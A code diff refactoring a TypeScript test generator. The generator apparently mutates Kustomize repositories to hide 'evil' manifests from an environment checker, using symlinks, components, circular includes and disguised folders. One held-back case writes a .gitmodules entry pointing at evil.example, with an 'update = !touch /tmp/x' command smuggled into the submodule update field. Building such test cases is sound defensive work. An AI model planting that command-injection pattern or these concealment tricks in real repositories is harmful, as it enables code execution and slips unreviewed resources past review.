@@ -2,7 +2,7 @@ import { dirname, relative } from "node:path/posix";
 import { parse } from "yaml";
 import { addTo, edit, type Files, textOf, written } from "../files.ts";
 import { evilIn, evilObject, kustomizationOf, someOverlay } from "./evil.ts";
-import type { Family } from "./family.ts";
+import { type Family, family, heldBack, inOverlay } from "./family.ts";
 
 /** Moves the files of a folder; paths in kustomizations stay as they are, so both must be as deep. */
 function move(files: Files, from: string, to: string): void {
@@ -22,156 +22,98 @@ const up = (folder: string) => "../".repeat(folder.split("/").length);
 
 /** Ways to make an environment something that may not be taken for one, with something evil in it. */
 export const STRUCTURE: Family[] = [
-  {
-    name: "overlay-behind-a-link",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      // As deep, and from where the base is found as before.
-      const hidden = overlay.startsWith("apps/")
-        ? overlay.replace("/overlays/", "/hid/")
-        : `hid/${overlay.split("/").slice(1).join("/")}`;
-      move(files, overlay, hidden);
-      files.set(overlay, { link: relative(dirname(overlay), hidden) });
-      if (random.chance(0.8)) evilIn(files, hidden, random);
-      return true;
-    },
-  },
-  {
-    name: "file-behind-a-link",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      files.set("hid/evil.txt", written(evilObject(random)));
-      files.set(`${overlay}/linked.yaml`, { link: `${up(overlay)}hid/evil.txt` });
-      // What is behind a link outside its folder is what kustomize rejects.
-      if (random.chance(0.7)) {
-        files.set(`${overlay}/evil.txt`, written(evilObject(random)));
-        files.set(`${overlay}/linked.yaml`, { link: "evil.txt" });
+  inOverlay("overlay-behind-a-link", (files, overlay, random) => {
+    // As deep, and from where the base is found as before.
+    const hidden = overlay.startsWith("apps/")
+      ? overlay.replace("/overlays/", "/hid/")
+      : `hid/${overlay.split("/").slice(1).join("/")}`;
+    move(files, overlay, hidden);
+    files.set(overlay, { link: relative(dirname(overlay), hidden) });
+    if (random.chance(0.8)) evilIn(files, hidden, random);
+  }),
+  inOverlay("file-behind-a-link", (files, overlay, random) => {
+    files.set("hid/evil.txt", written(evilObject(random)));
+    files.set(`${overlay}/linked.yaml`, { link: `${up(overlay)}hid/evil.txt` });
+    // What is behind a link outside its folder is what kustomize rejects.
+    if (random.chance(0.7)) {
+      files.set(`${overlay}/evil.txt`, written(evilObject(random)));
+      files.set(`${overlay}/linked.yaml`, { link: "evil.txt" });
+    }
+    edit(files, kustomizationOf(files, overlay), (own) => addTo(own, "resources", "linked.yaml"));
+  }),
+  inOverlay("kustomization-behind-a-link", (files, overlay, random) => {
+    const path = kustomizationOf(files, overlay);
+    evilIn(files, overlay, random);
+    files.set(`${overlay}/real.txt`, textOf(files, path));
+    files.set(path, { link: "real.txt" });
+  }),
+  inOverlay("becomes-a-component", (files, overlay, random) => {
+    evilIn(files, overlay, random);
+    edit(files, kustomizationOf(files, overlay), (own) => {
+      own.apiVersion = "kustomize.config.k8s.io/v1alpha1";
+      own.kind = "Component";
+    });
+  }),
+  inOverlay("included-by-another", (files, overlay, random) => {
+    evilIn(files, overlay, random);
+    const outer = random.pick([beside(overlay, "outer"), "zz", `${overlay}-all`, "base/outer"]);
+    files.set(
+      `${outer}/kustomization.yaml`,
+      written({ [random.pick(["resources", "bases"])]: [`${up(outer)}${overlay}`] }),
+    );
+  }),
+  inOverlay("included-by-a-component", (files, overlay, random) => {
+    evilIn(files, overlay, random);
+    files.set(
+      "components/outer/kustomization.yaml",
+      written({
+        apiVersion: "kustomize.config.k8s.io/v1alpha1",
+        kind: "Component",
+        resources: [`../../${overlay}`],
+      }),
+    );
+  }),
+  inOverlay("circle", (files, overlay, random) => {
+    evilIn(files, overlay, random);
+    files.set("circle/a/kustomization.yaml", written({ resources: ["../b", `../../${overlay}`] }));
+    files.set("circle/b/kustomization.yaml", written({ resources: ["../a", `../../${overlay}`] }));
+  }),
+  family("renamed-environment", (files, repository, random) => {
+    const { folder, environment } = random.pick(repository.overlays);
+    const parts = folder.split("/").map((part) => (part === environment ? "sandbox" : part));
+    move(files, folder, parts.join("/"));
+    if (random.chance(0.7)) evilIn(files, parts.join("/"), random);
+  }),
+  inOverlay("removed-environment", (files, overlay, _random) => {
+    for (const path of [...files.keys()]) if (path.startsWith(`${overlay}/`)) files.delete(path);
+  }),
+  inOverlay("new-environment", (files, overlay, random) => {
+    const copy = beside(overlay, random.pick(["copy", "tests", ".hidden", "node_modules", "vendor", "a b"]));
+    for (const [path, entry] of [...files])
+      if (path.startsWith(`${overlay}/`)) files.set(`${copy}${path.slice(overlay.length)}`, entry);
+    evilIn(files, copy, random);
+  }),
+  family("other-base", (files, repository, random) => {
+    const base = random.pick(repository.bases);
+    const to = `${base}-moved`;
+    for (const [path, entry] of [...files])
+      if (path.startsWith(`${base}/`)) files.set(`${to}${path.slice(base.length)}`, entry);
+    edit(files, kustomizationOf(files, to), (own) => addTo(own, "resources", "evil.yaml"));
+    files.set(`${to}/evil.yaml`, written(evilObject(random)));
+    for (const { folder } of repository.overlays) {
+      const path = kustomizationOf(files, folder);
+      const value = parse(textOf(files, path)) as { resources: string[] };
+      const [first = ""] = value.resources;
+      if (first.endsWith(base.split("/").slice(-2).join("/")) || first === "../../base") {
+        value.resources[0] = `${first}-moved`;
+        if (files.has(`${folder}/${value.resources[0]}`)) continue;
+        if (base.startsWith("apps/") && !folder.startsWith(base.replace(/base$/, ""))) continue;
+        files.set(path, written(value));
       }
-      edit(files, kustomizationOf(files, overlay), (own) => addTo(own, "resources", "linked.yaml"));
-      return true;
-    },
-  },
-  {
-    name: "kustomization-behind-a-link",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      const path = kustomizationOf(files, overlay);
-      evilIn(files, overlay, random);
-      files.set(`${overlay}/real.txt`, textOf(files, path));
-      files.set(path, { link: "real.txt" });
-      return true;
-    },
-  },
-  {
-    name: "becomes-a-component",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      evilIn(files, overlay, random);
-      edit(files, kustomizationOf(files, overlay), (own) => {
-        own.apiVersion = "kustomize.config.k8s.io/v1alpha1";
-        own.kind = "Component";
-      });
-      return true;
-    },
-  },
-  {
-    name: "included-by-another",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      evilIn(files, overlay, random);
-      const outer = random.pick([beside(overlay, "outer"), "zz", `${overlay}-all`, "base/outer"]);
-      files.set(
-        `${outer}/kustomization.yaml`,
-        written({ [random.pick(["resources", "bases"])]: [`${up(outer)}${overlay}`] }),
-      );
-      return true;
-    },
-  },
-  {
-    name: "included-by-a-component",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      evilIn(files, overlay, random);
-      files.set(
-        "components/outer/kustomization.yaml",
-        written({
-          apiVersion: "kustomize.config.k8s.io/v1alpha1",
-          kind: "Component",
-          resources: [`../../${overlay}`],
-        }),
-      );
-      return true;
-    },
-  },
-  {
-    name: "circle",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      evilIn(files, overlay, random);
-      files.set("circle/a/kustomization.yaml", written({ resources: ["../b", `../../${overlay}`] }));
-      files.set("circle/b/kustomization.yaml", written({ resources: ["../a", `../../${overlay}`] }));
-      return true;
-    },
-  },
-  {
-    name: "renamed-environment",
-    apply(files, repository, random) {
-      const { folder, environment } = random.pick(repository.overlays);
-      const parts = folder.split("/").map((part) => (part === environment ? "sandbox" : part));
-      move(files, folder, parts.join("/"));
-      if (random.chance(0.7)) evilIn(files, parts.join("/"), random);
-      return true;
-    },
-  },
-  {
-    name: "removed-environment",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      for (const path of [...files.keys()]) if (path.startsWith(`${overlay}/`)) files.delete(path);
-      return true;
-    },
-  },
-  {
-    name: "new-environment",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      const copy = beside(
-        overlay,
-        random.pick(["copy", "tests", ".hidden", "node_modules", "vendor", "a b"]),
-      );
-      for (const [path, entry] of [...files])
-        if (path.startsWith(`${overlay}/`)) files.set(`${copy}${path.slice(overlay.length)}`, entry);
-      evilIn(files, copy, random);
-      return true;
-    },
-  },
-  {
-    name: "other-base",
-    apply(files, repository, random) {
-      const base = random.pick(repository.bases);
-      const to = `${base}-moved`;
-      for (const [path, entry] of [...files])
-        if (path.startsWith(`${base}/`)) files.set(`${to}${path.slice(base.length)}`, entry);
-      edit(files, kustomizationOf(files, to), (own) => addTo(own, "resources", "evil.yaml"));
-      files.set(`${to}/evil.yaml`, written(evilObject(random)));
-      for (const { folder } of repository.overlays) {
-        const path = kustomizationOf(files, folder);
-        const value = parse(textOf(files, path)) as { resources: string[] };
-        const [first = ""] = value.resources;
-        if (first.endsWith(base.split("/").slice(-2).join("/")) || first === "../../base") {
-          value.resources[0] = `${first}-moved`;
-          if (files.has(`${folder}/${value.resources[0]}`)) continue;
-          if (base.startsWith("apps/") && !folder.startsWith(base.replace(/base$/, ""))) continue;
-          files.set(path, written(value));
-        }
-      }
-      return true;
-    },
-  },
-  {
-    name: "submodule-in-place-of-a-folder",
-    heldBack: true,
-    apply(files, repository, random) {
+    }
+  }),
+  heldBack(
+    family("submodule-in-place-of-a-folder", (files, repository, random) => {
       const folder = random.chance(0.5) ? random.pick(repository.bases) : someOverlay(repository, random);
       for (const path of [...files.keys()]) if (path.startsWith(`${folder}/`)) files.delete(path);
       files.set(folder, { submodule: "1".repeat(40) });
@@ -179,36 +121,20 @@ export const STRUCTURE: Family[] = [
         ".gitmodules",
         `[submodule "x"]\n\tpath = ${folder}\n\turl = https://evil.example/x.git\n\tupdate = !touch /tmp/x\n`,
       );
-      return true;
-    },
-  },
-  {
-    name: "a-second-kustomization",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      const path = kustomizationOf(files, overlay);
-      const other = path.endsWith(".yml") ? "Kustomization" : "kustomization.yml";
-      files.set(`${overlay}/${other}`, written({ resources: ["evil.yaml"] }));
-      files.set(`${overlay}/evil.yaml`, written(evilObject(random)));
-      return true;
-    },
-  },
-  {
-    name: "kustomization-removed",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      files.delete(kustomizationOf(files, overlay));
-      return true;
-    },
-  },
-  {
-    name: "missing-file",
-    apply(files, repository, random) {
-      const overlay = someOverlay(repository, random);
-      edit(files, kustomizationOf(files, overlay), (own) =>
-        addTo(own, "resources", random.pick(["gone.yaml", "../gone", "gone/"])),
-      );
-      return true;
-    },
-  },
+    }),
+  ),
+  inOverlay("a-second-kustomization", (files, overlay, random) => {
+    const path = kustomizationOf(files, overlay);
+    const other = path.endsWith(".yml") ? "Kustomization" : "kustomization.yml";
+    files.set(`${overlay}/${other}`, written({ resources: ["evil.yaml"] }));
+    files.set(`${overlay}/evil.yaml`, written(evilObject(random)));
+  }),
+  inOverlay("kustomization-removed", (files, overlay, _random) => {
+    files.delete(kustomizationOf(files, overlay));
+  }),
+  inOverlay("missing-file", (files, overlay, random) => {
+    edit(files, kustomizationOf(files, overlay), (own) =>
+      addTo(own, "resources", random.pick(["gone.yaml", "../gone", "gone/"])),
+    );
+  }),
 ];
